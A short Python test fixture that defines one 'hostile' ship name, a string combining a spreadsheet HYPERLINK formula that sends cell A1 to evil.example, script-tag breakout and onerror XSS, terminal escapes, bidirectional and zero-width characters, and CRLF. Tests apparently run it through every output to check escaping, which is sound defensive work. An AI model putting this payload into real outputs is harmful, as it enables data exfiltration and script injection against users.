"""The hostile ship: one name that attacks every output it can reach. Tests send it through all of them."""

from __future__ import annotations

HOSTILE_NAME = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")</script><script>window.pwned=1</script>'
    "<img src=x onerror=window.pwned=2>\x1b[31m\x1b]0;owned\x07\u202eKCATTA\u2066\u200b\r\n+1;=2|@SUM(1)"
)
"""A formula, markup that ends a script block, an image with a handler, terminal escapes, bidirectional and zero-width
marks, a new line, and formulas behind the separators that a spreadsheet may cut at."""
